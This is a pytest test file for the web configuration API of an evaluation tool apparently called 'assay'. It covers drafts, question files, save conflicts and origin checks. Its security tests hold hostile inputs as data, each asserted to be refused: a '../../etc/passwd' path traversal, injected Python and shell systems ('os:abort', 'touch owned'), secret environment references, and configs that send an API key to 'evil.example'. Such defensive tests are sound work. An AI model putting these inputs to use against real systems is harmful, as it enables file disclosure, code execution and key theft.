"""Configuring by the JSON interface, as the page does it."""

import asyncio
import json
import subprocess
import sys
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any

import pytest
from aiohttp.test_utils import TestClient

from assay.config.workspace import Workspace
from assay.errors import UseError
from assay.web.configure.api import CheckRequest, Draft, DraftVariable, NewSystem, TryRequest
from assay.web.configure.check import check, try_question
from assay.web.configure.edit import question_files, read_file, save_file
from assay.web.guard import CHANGING
from tests.support.page import BEARER, client_of, run

Client = TestClient[Any, Any]
TEXT = """\
# ours
defaults:
  questions_path: q.jsonl
  system: echo   # the service
systems:
  echo: {kind: http, url: "http://127.0.0.1:9/ask", settings: [tone, depth]}
  code: {kind: python, target: "mine:ask"}
experiments:
  - name: tone
    ablation_variable: tone
    values: [kind, stern]
"""


def test_a_check_loads_no_server():
    """It is a process of its own for every change of the form, so it must begin quickly."""
    program = "import sys, assay.web.configure.check; sys.exit('aiohttp' in sys.modules)"
    assert subprocess.run([sys.executable, "-c", program], check=False).returncode == 0


@pytest.fixture(name="root")
def _root(tmp_path: Path) -> Path:
    """A workspace with three questions in two languages."""
    (tmp_path / "experiments").mkdir()
    (tmp_path / "experiments" / "experiments.yaml").write_text(TEXT, encoding="utf-8")
    rows = [{"id": "a", "question": "What is it?"}, {"id": "b", "question": "Что это такое?"}]
    rows.append({"id": "c", "question": "And why is that so?"})
    (tmp_path / "q.jsonl").write_text("\n".join(map(json.dumps, rows)), encoding="utf-8")
    return tmp_path


def play(root: Path, story: Callable[[Client], Awaitable[None]], **access: Any) -> None:
    """Run a story with a client that may change something."""

    async def whole() -> None:
        async with await client_of(root, **{"is_read_only": False} | access) as client:
            origin = f"http://127.0.0.1:{client.port}"
            client.session.headers.update({**BEARER, "Origin": origin, CHANGING[0]: CHANGING[1]})
            await story(client)

    run(whole())


async def post(client: Client, path: str, body: Any, status: int = 200) -> Any:
    """The JSON of a request."""
    answer = await client.post(f"/api/v1/configure/{path}", json=body)
    assert answer.status == status, await answer.text()
    return await answer.json()


async def start(client: Client) -> Any:
    """The file as the page opens it."""
    return await (await client.get("/api/v1/configure")).json()


def test_a_check_says_everything_about_an_experiment(root: Path):
    """The form, the questions with their languages, settings, and the dry run."""
    found = check(root, CheckRequest(text=TEXT, experiment="tone"))
    assert found.problems == ()
    assert found.draft is not None
    assert found.draft.variables == (DraftVariable(name="tone", values=("kind", "stern")),)
    assert found.questions is not None
    assert (found.questions.count, dict(found.questions.languages)) == (3, {"en": 2, "ru": 1})
    assert found.questions.preview[1] == ("b", "Что это такое?")
    assert found.settings is not None
    assert [setting.name for setting in found.settings] == ["tone", "depth"]
    assert found.dry_run is not None
    assert (found.dry_run.cases, found.dry_run.recorded) == (6, 0)
    assert found.question_files == ("q.jsonl",)
    assert not found.dry_run.is_time_of_earlier_runs
    assert found.systems[:2] == ("echo", "code")
    assert found.command == "assay ablate --experiment tone"


def test_question_sets_of_all_formats_are_offered_and_nothing_else(root: Path):
    """Tables are question sets if a column has questions; clauses, laws and chunks are none."""
    files = {
        "a.csv": "question,answer\nHow long?,A year\n",
        "prices.csv": "item,price\nrent,900\n",
        "review/clauses.jsonl": '{"id": "c", "text": "The rent.", "ground_truth": {}}\n',
        "review/laws.jsonl": '{"name": "Code", "article": 1, "text": "A law."}\n',
        "sets/plain.jsonl": '{"metadata": {}}\n{"id": "p", "text": "How long?"}\n',
    }
    for name, text in files.items():
        (root / name).parent.mkdir(exist_ok=True)
        (root / name).write_text(text)
    (root / "sets" / "broken.xlsx").write_bytes(b"no table")
    assert question_files(root) == ["a.csv", "q.jsonl", "sets/plain.jsonl"]


def test_a_form_becomes_text_and_is_checked(root: Path):
    """A new experiment of two variables; the text that comes back gives the same form."""
    variables = (DraftVariable(name="tone", values=("kind", "stern")), DraftVariable(name="depth", values=(1, 5)))  # fmt: skip
    draft = Draft(name="both", design="factorial", variables=variables, question_limit=2)
    found = check(root, CheckRequest(text=TEXT, draft=draft))
    assert found.problems == ()
    assert found.draft == draft
    assert found.dry_run is not None
    assert (found.dry_run.cases, len(found.dry_run.variants)) == (8, 4)
    assert found.text.startswith(TEXT)


@pytest.mark.parametrize(
    ("change", "field", "message"),
    [
        ({"questions_path": "none.jsonl"}, "questions_path", "none.jsonl: cannot be read"),
        ({"questions_path": "../../etc/passwd"}, "questions_path", "outside"),
        ({"primary": "recal"}, "primary", "there is no metric 'recal'"),
        ({"system": "ecko"}, "system", "ecko"),
        ({"variables": (DraftVariable(name="tune", values=(1, 2)),)}, "variables", "'tone'"),
        ({"baseline": "slow"}, "baseline", "slow"),
        ({"name": "a/b"}, "text", "cannot be a file name"),
    ],
)
def test_problems_stand_at_their_fields(
    root: Path, change: dict[str, Any], field: str, message: str
):
    """With the words of the command line, and there is no dry run."""
    fields: dict[str, Any] = {"name": "tone", "variables": (DraftVariable(name="tone", values=("kind", "stern")),)}  # fmt: skip
    found = check(root, CheckRequest(text=TEXT, experiment="tone", draft=Draft(**fields | change)))
    assert [problem.field for problem in found.problems] == [field]
    assert message in found.problems[0].message
    assert str(root) not in found.problems[0].message
    assert found.dry_run is None


def test_a_page_adds_no_code_and_takes_no_secret(root: Path):
    """Neither a system of the text nor of an experiment; what the file has already is allowed."""
    refused = {
        TEXT.replace("mine:ask", "os:abort"): "Python or command",
        TEXT + "    system: python:os:abort\n": "Python or command",
        TEXT + "    system: command:touch owned\n": "Python or command",
        TEXT.replace("  code:", "  x: {kind: command, command: [touch, owned]}\n  code:"): "Python",
        TEXT.replace("9/ask", "9/${HOME}"): "HOME",
        TEXT.replace("experiments:", "models: {m: {model: m, api_key_env: AWS_SECRET}}\nexperiments:"): "AWS_SECRET",
    }  # fmt: skip

    async def story(client: Client) -> None:
        version = (await start(client))["version"]
        for text, reason in refused.items():
            found = check(root, CheckRequest(text=text, experiment="tone"))
            assert reason in found.problems[0].message
            assert found.dry_run is None
            tried = try_question(root, TryRequest(text=text, system="echo", question="?"))
            assert reason in (tried.problem or "")
            error = (await post(client, "save", {"text": text, "version": version}, 400))["error"]
            assert reason in error

    play(root, story)
    assert (root / "experiments" / "experiments.yaml").read_text(encoding="utf-8") == TEXT
    assert not (root / "owned").exists()


KEYED = """\
models:
  ours: {model: m, base_url: "http://127.0.0.1:9/v1", api_key_env: OUR_API_KEY}
systems:
  chat: {kind: openai, model: ours}
  rag: {kind: http, url: "http://127.0.0.1:9/ask", headers: {X-Key: "${RAG_API_KEY}"}}
"""


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("127.0.0.1:9/v1", "evil.example/v1"),
        ("9/v1", "8/v1"),
        ("9/v1", "9/v2"),
        ("9/ask", "8/ask"),
        ("OUR_API_KEY", "RAG_API_KEY"),
        ("OUR_API_KEY", "OPENAI_API_KEY"),
        ("${RAG", "${OUR"),
        ('"http://127.0.0.1:9/ask"', '"http://127.0.0.1:9/ask", prepare: {url: "http://evil.example"}'),
        ("models:", 'defaults: {system: "http://evil.example/${OUR_API_KEY}"}\nmodels:'),
        ("systems:", '  x: {model: m, base_url: "http://evil.example", query: {k: "${OUR_API_KEY}"}}\nsystems:'),
    ],
)  # fmt: skip
def test_a_key_goes_only_where_the_saved_file_sends_it(root: Path, old: str, new: str):
    """Not to another address by a test question, and not by saving another address first."""
    path = root / "experiments" / "experiments.yaml"
    path.write_text(KEYED, encoding="utf-8")
    text = KEYED.replace(old, new)
    assert text != KEYED
    tried = try_question(root, TryRequest(text=text, system="chat", question="?"))
    assert "write it into experiments.yaml with an editor first" in (tried.problem or "")
    with pytest.raises(UseError, match="with an editor first"):
        save_file(Workspace(root=root), text, read_file(Workspace(root=root)).version)
    assert path.read_text(encoding="utf-8") == KEYED


def test_keys_can_be_used_where_they_belong(root: Path):
    """At an address of the saved file, under any name, and at the provider's own address."""
    (root / "experiments" / "experiments.yaml").write_text(KEYED, encoding="utf-8")
    added = (
        '  again: {model: n, base_url: "http://127.0.0.1:9/v1/", api_key_env: OUR_API_KEY}\n'
        "  known: {model: n}\n"
        '  other: {model: n, base_url: "https://api.openai.com/v1", api_key_env: OPENAI_API_KEY}\n'
        '  free: {model: n, base_url: "http://evil.example/v1", api_key_env: null}\nsystems:\n'
    )
    found = check(root, CheckRequest(text=KEYED.replace("systems:\n", added)))
    assert found.problems == ()


def test_a_new_system_is_added_and_asked(root: Path):
    """By a server that answers, in a process of its own; one that does not says why."""

    async def story(client: Client) -> None:
        async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            await reader.readuntil(b"\r\n\r\n")
            body = b'{"reply": {"text": "forty-two"}}'
            head = (
                f"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {len(body)}"
            )
            writer.write(head.encode() + b"\r\nConnection: close\r\n\r\n" + body)
            await writer.drain()
            writer.close()

        service = await asyncio.start_server(serve, "127.0.0.1", 0)
        port = service.sockets[0].getsockname()[1]
        new = {"name": "mine", "kind": "http", "url": f"http://127.0.0.1:{port}/ask", "answer": "reply.text"}  # fmt: skip
        found = await post(client, "check", {"text": TEXT, "experiment": "tone", "system": new})
        assert (found["problems"], "mine" in found["systems"]) == ([], True)
        tried = await post(
            client, "try", {"text": found["text"], "system": "mine", "question": "?"}
        )
        assert (tried["answer"], tried["problem"]) == ("forty-two", None)
        service.close()

    play(root, story)
    nobody = NewSystem(name="chat", kind="openai", url="http://127.0.0.1:9/v1", model="m")
    text = check(root, CheckRequest(text=TEXT, experiment="tone", system=nobody)).text
    assert try_question(root, TryRequest(text=text, system="chat", question="?")).problem


def test_saving_never_overwrites_a_newer_file(root: Path):
    """The second of two people is told so; what the first one wrote stays, with its mode."""
    path = root / "experiments" / "experiments.yaml"
    path.chmod(0o640)

    async def story(client: Client) -> None:
        version = (await start(client))["version"]
        ours = TEXT.replace("# ours", "# hers")
        saved = await post(client, "save", {"text": ours, "version": version})
        assert (saved["text"], saved["experiments"]) == (ours, ["tone"])
        late = {"text": TEXT.replace("# ours", "# his"), "version": version}
        assert "has changed since" in (await post(client, "save", late, 400))["error"]
        assert path.read_text(encoding="utf-8") == ours
        assert (path.stat().st_mode & 0o777) == 0o640
        path.unlink()
        assert "has changed since" in (await post(client, "save", late | {"version": saved["version"]}, 400))["error"]  # fmt: skip
        again = await post(client, "save", {"text": "experiments: []\n", "version": ""})
        assert again["version"]
        wrong = {"text": "experimants: []\n", "version": again["version"]}
        assert "did you mean 'experiments'" in (await post(client, "save", wrong, 400))["error"]

    play(root, story)
    assert [each.name for each in path.parent.iterdir()] == ["experiments.yaml"]


def test_other_sites_and_readers_save_nothing(root: Path):
    """A foreign origin, a missing header, and a page that only reads."""

    async def story(client: Client) -> None:
        body = {"text": "experiments: []\n", "version": (await start(client))["version"]}
        for headers in ({"Origin": "http://evil.example"}, {CHANGING[0]: "no"}, {"Authorization": "Bearer x"}):  # fmt: skip
            answer = await client.post("/api/v1/configure/save", json=body, headers=headers)
            assert answer.status in {401, 403}

    async def reading(client: Client) -> None:
        body = {"text": "experiments: []\n", "version": (await start(client))["version"]}
        await post(client, "save", body, 405)
        await post(client, "check", body, 405)

    play(root, story)
    play(root, reading, is_read_only=True)
    assert (root / "experiments" / "experiments.yaml").read_text(encoding="utf-8") == TEXT
